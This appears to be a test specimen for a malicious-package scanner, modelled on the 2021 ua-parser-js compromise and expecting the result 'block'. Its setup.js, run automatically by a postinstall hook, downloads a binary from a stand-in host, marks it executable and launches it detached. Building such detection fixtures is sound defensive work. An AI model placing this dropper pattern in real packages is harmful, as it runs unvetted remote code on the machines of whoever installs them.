import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-dropper',
  from: 'ua-parser-js, 2021: a program fetched and started',
  files: {
    'package.json': { name: 'incident', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
    'setup.js': `const fs = require('fs');
const https = require('https');
const { spawn } = require('child_process');
const file = require('os').tmpdir() + '/inert-helper';
https.get('https://files.invalid/helper', response => {
  response.pipe(fs.createWriteStream(file)).on('finish', () => {
    fs.chmodSync(file, 0o755);
    spawn(file, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
`,
  },
  expect: 'block',
};
